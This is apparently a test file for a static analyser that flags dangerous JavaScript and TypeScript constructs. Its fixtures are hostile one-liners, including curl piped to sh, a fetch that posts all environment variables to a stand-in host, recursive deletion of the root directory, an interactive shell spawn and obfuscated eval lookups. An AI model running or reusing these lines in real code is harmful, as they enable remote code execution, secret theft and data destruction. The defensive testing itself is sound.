import t from 'tap';
import { isBlocking } from '../../../../plugins/engines/code/index.js';
import { analyzeJavaScript, analyzeTypeScript } from '../../../../plugins/engines/code/analyze.js';

type Case = [name: string, code: string, rule: string];

const UNSAFE: Case[] = [
  ['eval', 'eval(userInput);', 'javascript.dangerous_call.eval'],
  ['indirect eval through a sequence', '(0, eval)(src);', 'javascript.dangerous_call.eval'],
  ['eval through globalThis computed', "globalThis['ev' + 'al'](x);", 'javascript.dangerous_call.eval'],
  ['eval through window template', 'window[`eval`](x);', 'javascript.dangerous_call.eval'],
  ['eval alias', 'const run = eval; run(code);', 'javascript.dangerous_call.eval'],
  ['eval name from char codes', 'window[String.fromCharCode(101, 118, 97, 108)](x);', 'javascript.dangerous_call.eval'],
  ['eval passed as a value', 'items.map(eval);', 'javascript.dangerous_call.reference'],
  ['new Function', "const f = new Function('a', body);", 'javascript.dangerous_call.function'],
  ['Function call', 'Function(src)();', 'javascript.dangerous_call.function'],
  ['constructor chain', "[].constructor.constructor('return process')();", 'javascript.dangerous_call.function_constructor'],
  ['eval of fetched code', 'eval(await (await fetch(u)).text());', 'javascript.rce.eval_fetched'],
  ['child_process exec computed', "const cp = require('child_process');\ncp.exec('ls ' + dir);", 'javascript.process.shell_injection'],
  ['child_process destructured', "const { execSync } = require('node:child_process');\nexecSync(cmd);", 'javascript.process.shell_injection'],
  ['child_process import alias', "import { exec as run } from 'child_process';\nrun(cmd);", 'javascript.process.shell_injection'],
  ['child_process namespace import', "import * as cp from 'child_process';\ncp.execSync(cmd);", 'javascript.process.shell_injection'],
  ['child_process dynamic import', "const cp = await import('child_process');\ncp.exec(c);", 'javascript.process.shell_injection'],
  ['spawn with shell: true', "const { spawn } = require('child_process');\nspawn(cmd, { shell: true });", 'javascript.process.shell_injection'],
  ['spawn computed program', "const { spawn } = require('child_process');\nspawn(prog, ['-x']);", 'javascript.process.dynamic_program'],
  ['spawn a shell', "const { spawn } = require('child_process');\nspawn('/bin/sh', ['-i']);", 'javascript.process.interpreter'],
  ['curl piped to sh', "require('child_process').execSync('curl -fsSL https://x.example/i.sh | sh');", 'javascript.rce.download_pipe_shell'],
  ['process.mainModule.require', "global.process.mainModule.require('child_process').exec(c);", 'javascript.process.shell_injection'],
  ['import().then callback', "import('child_process').then((cp) => cp.exec(c));", 'javascript.process.shell_injection'],
  ['module.require with a built name', "module.require('child_' + 'process').execSync(c);", 'javascript.process.shell_injection'],
  ['eval via Reflect.apply', 'Reflect.apply(eval, null, [src]);', 'javascript.dangerous_call.reference'],
  ['computed global lookup called', 'window[name](arg);', 'javascript.dangerous_call.global_dynamic'],
  ['name folded past the fold limit', 'let a0 = "e";\n' + Array.from({ length: 59 }, (_, i) => `let a${i + 1} = a${i} + a${i};`).join('\n') + '\nglobalThis[a59](x);', 'javascript.dangerous_call.global_dynamic'],
  ['Function.call', "Function.call(null, 'return this')();", 'javascript.dangerous_call.reference'],
  ['eval.call indirect', 'eval.call(null, src);', 'javascript.dangerous_call.reference'],
  ['vm.runInNewContext', "const vm = require('vm');\nvm.runInNewContext(code, {});", 'javascript.dangerous_call.vm'],
  ['new vm.Script', "import vm from 'node:vm';\nnew vm.Script(src);", 'javascript.dangerous_call.vm'],
  ['setTimeout string', "setTimeout('doThing()', 100);", 'javascript.dangerous_call.string_timer'],
  ['setInterval computed string', "setInterval('tick(' + n + ')', 100);", 'javascript.dangerous_call.string_timer'],
  ['__proto__ write', 'obj.__proto__.isAdmin = true;', 'javascript.prototype_pollution.proto_write'],
  ['__proto__ computed write', "obj['__proto__']['polluted'] = 1;", 'javascript.prototype_pollution.proto_write'],
  ['constructor.prototype write', 'a.constructor.prototype.x = 2;', 'javascript.prototype_pollution.proto_write'],
  ['Object.prototype write', 'Object.prototype.toJSON = f;', 'javascript.prototype_pollution.builtin_prototype'],
  ['innerHTML computed', 'el.innerHTML = user.bio;', 'javascript.xss.inner_html'],
  ['outerHTML template', 'el.outerHTML = `<p>${name}</p>`;', 'javascript.xss.inner_html'],
  ['innerHTML +=', "el.innerHTML += '<li>' + item + '</li>';", 'javascript.xss.inner_html'],
  ['document.write computed', 'document.write(location.hash);', 'javascript.xss.document_write'],
  ['insertAdjacentHTML computed', "el.insertAdjacentHTML('beforeend', html);", 'javascript.xss.insert_adjacent_html'],
  ['hard-coded password', "const dbPassword = 'hunter2-prod-77';", 'javascript.secrets.hardcoded_credential'],
  ['hard-coded api key property', "const cfg = { apiKey: 'sk_live_0123456789abcdef' };", 'javascript.secrets.hardcoded_credential'],
  ['hard-coded secret assignment', "process.env.CLIENT_SECRET = 'Zx81-hh2k-99aa';", 'javascript.secrets.hardcoded_credential'],
  ['env exfiltration', "fetch('https://c.example', { method: 'POST', body: JSON.stringify(process.env) });", 'javascript.exfiltration.environ'],
  ['fs.rmSync root', "const fs = require('fs');\nfs.rmSync('/', { recursive: true, force: true });", 'javascript.filesystem.destructive'],
  ['process.binding', "process.binding('spawn_sync');", 'javascript.dangerous_call.native_binding'],
];

const SAFE: Array<[string, string]> = [
  ['eval in a string', "const s = 'eval(x); require(\"child_process\").exec(c)';"],
  ['eval in comments', '// eval(x)\n/* new Function(src) */\nconst y = 1;'],
  ['eval in a template literal text', 'const s = `call eval(x) later`;'],
  ['method named eval', 'model.eval(); expr.evaluate(x);'],
  ['setTimeout with a function', 'setTimeout(() => tick(), 100); setTimeout(handler, 5);'],
  ['innerHTML literal', "el.innerHTML = '<b>static</b>'; el.textContent = user;"],
  ['spawn fixed argv', "const { spawn } = require('child_process');\nspawn('git', ['status']);"],
  ['single env var sent', "fetch(u, { headers: { Authorization: process.env.TOKEN } });"],
  ['JSON.parse', 'const o = JSON.parse(text);'],
  ['password from env', 'const password = process.env.DB_PASSWORD;'],
  ['password placeholder', "const password = '';\nconst apiKey = '<your-key>';"],
  ['prototype method definition on own class', 'function A() {}\nA.prototype.run = function () {};'],
  ['fixed module require', "const path = require('path');\npath.join(a, b);"],
  ['Function.prototype / Function.toString read', 'Object.setPrototypeOf(f.prototype, Function.prototype);\nFunction.toString.call(t);'],
  ['re-parenting one object via __proto__', 'function setProto(t, e) { return (t.__proto__ = e), t; }\nChild.prototype.__proto__ = Base.prototype;'],
];

t.test('unsafe JavaScript constructs are proven with their rule', async (t) => {
  for (const [name, code, rule] of UNSAFE) {
    const a = analyzeJavaScript(code);
    t.ok(a.parseOk, `${name}: parses (${a.parseError?.message ?? ''})`);
    t.ok(a.findings.some(isBlocking), `${name}: blocking finding`);
    t.ok(a.findings.some((f) => f.rule_id === rule), `${name}: rule ${rule} (got ${a.findings.map((f) => f.rule_id).join(', ')})`);
  }
});

t.test('safe JavaScript constructs produce no blocking finding', async (t) => {
  for (const [name, code] of SAFE) {
    const a = analyzeJavaScript(code);
    t.ok(a.parseOk, `${name}: parses`);
    t.same(a.findings.filter(isBlocking), [], name);
  }
});

t.test('module grammar first, script grammar as fallback', async (t) => {
  t.equal(analyzeJavaScript("import x from 'y';").parser, 'acorn(module)');
  const sloppy = analyzeJavaScript('with (obj) { eval(s); }');
  t.equal(sloppy.parser, 'acorn(script)');
  t.ok(sloppy.findings.some((f) => f.rule_id === 'javascript.dangerous_call.eval'));
  t.ok(analyzeJavaScript('#!/usr/bin/env node\nconsole.log(1)').parseOk, 'hashbang accepted');
});

t.test('JavaScript syntax errors are parse failures', async (t) => {
  for (const code of ['function ( {', 'const = 1;', 'eval(x', 'let x = <div']) {
    const a = analyzeJavaScript(code);
    t.equal(a.parseOk, false, code);
    t.ok(a.parseError && a.parseError.line >= 1);
  }
});

t.test('TypeScript: types stripped by sucrase, rules on the JavaScript', async (t) => {
  const a = analyzeTypeScript('interface Opts { cmd: string }\nexport function run<T>(o: Opts): T {\n  return eval(o.cmd as string) as T;\n}\n');
  t.ok(a.parseOk);
  t.equal(a.parser, 'sucrase+acorn(module)');
  const f = a.findings.find((x) => x.rule_id === 'typescript.dangerous_call.eval');
  t.ok(f, 'eval found');
  t.equal(f?.line, 3, 'line numbers preserved through sucrase');
  const safe = analyzeTypeScript('enum Color { Red, Green }\nconst c: Color = Color.Red;\nexport type Pair<A> = [A, A];\n');
  t.ok(safe.parseOk);
  t.same(safe.findings, []);
  const bad = analyzeTypeScript('const x: = 1;');
  t.equal(bad.parseOk, false);
  const cp = analyzeTypeScript("import { execSync } from 'child_process';\nconst out: string = execSync(cmd as string).toString();\n");
  t.ok(cp.findings.some((x) => x.rule_id === 'typescript.process.shell_injection'));
});

t.test('JSX and TSX are compiled by sucrase, then analysed', async (t) => {
  const jsx = analyzeJavaScript('const A = () => (\n  <div dangerouslySetInnerHTML={{ __html: html }}>\n    {eval(y)}\n  </div>\n);\n');
  t.ok(jsx.parseOk);
  t.equal(jsx.parser, 'sucrase(jsx)+acorn(module)');
  t.ok(jsx.findings.some((f) => f.rule_id === 'javascript.xss.dangerously_set_inner_html' && f.line === 2));
  t.ok(jsx.findings.some((f) => f.rule_id === 'javascript.dangerous_call.eval' && f.line === 3));
  const staticHtml = analyzeJavaScript("const B = () => <p dangerouslySetInnerHTML={{ __html: '<b>x</b>' }} />;\n");
  t.same(staticHtml.findings, [], 'constant __html is not flagged');
  const tsx = analyzeTypeScript('const C = (p: { x: string }) => <b>{p.x}</b>;\nexport default C;\n');
  t.ok(tsx.parseOk);
  t.equal(tsx.parser, 'sucrase(tsx)+acorn(module)');
  t.same(tsx.findings, []);
});

t.test('TypeScript re-exports of type-only imports parse', async (t) => {
  const a = analyzeTypeScript('import type { T } from "./t";\nimport { u } from "./u";\nexport { T, u };\nexport const v: T = eval(s);\n');
  t.ok(a.parseOk, a.parseError?.message ?? "parses");
  t.ok(a.findings.some((f) => f.rule_id === 'typescript.dangerous_call.eval' && f.line === 4));
});
